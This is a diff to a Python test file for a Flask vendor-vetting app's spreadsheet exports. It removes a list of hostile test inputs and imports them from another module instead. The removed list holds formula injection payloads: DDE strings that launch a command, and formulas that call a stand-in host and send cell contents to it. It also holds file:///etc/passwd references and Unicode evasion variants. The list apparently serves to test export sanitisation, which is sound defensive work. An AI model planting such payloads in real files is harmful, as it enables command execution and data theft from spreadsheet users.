@@ -17,11 +17,12 @@ from flask import Flask
 from flask_babel import force_locale
 
 from tests.cast import Browse, Cast
+from tests.exports.hostile import TEXTS
 from tests.support.dossier import open_assessment
 from tests.support.panel import CRITERIA, rated
 from tests.support.pdf import letters, reader
 from tests.support.tables import XLSX, rows_of, sheets_of
-from tests.walls.strings import STRINGS, bundles
+from tests.walls.strings import bundles
 from tests.walls.world import NOW, World, world_in
 from vetting import models
 from vetting.db import db, enter_company
@@ -33,45 +34,6 @@ from vetting.exports.tables import Book, Column, Kind, Row, Table
 from vetting.exports.workbooks import write_workbook
 from vetting.forms import clean
 
-FORMULAS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=DDE("cmd";"/C calc";"x")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")',
-    '=WEBSERVICE("http://elsewhere.example/")',
-    '=IMPORTXML("http://elsewhere.example/","//a")',
-    '=IMAGE("http://elsewhere.example/x.png")',
-    "='file:///etc/passwd'#$passwd.A1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "\t=1+1",
-    "\r\n=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    '"=1+1"',
-    "'=1+1",
-    '",=1+1,"',
-    "a;=1+1;b",
-    "a\n=1+1",
-    "{=1+1}",
-    "http://elsewhere.example/",
-    "mailto:nadia@elsewhere.example",
-    "file:///etc/passwd",
-    "internal:Sheet2!A1",
-    "_x0041_ and _x000D_",
-    "2026-05-03",
-    "1E5",
-    "007",
-    "+34 600 000 000",
-)
-TEXTS = (*FORMULAS, *STRINGS)
 TABLES: dict[str, Any] = {
     "vendors": columns.VENDORS,
     "trail": columns.COMPANY_TRAIL,
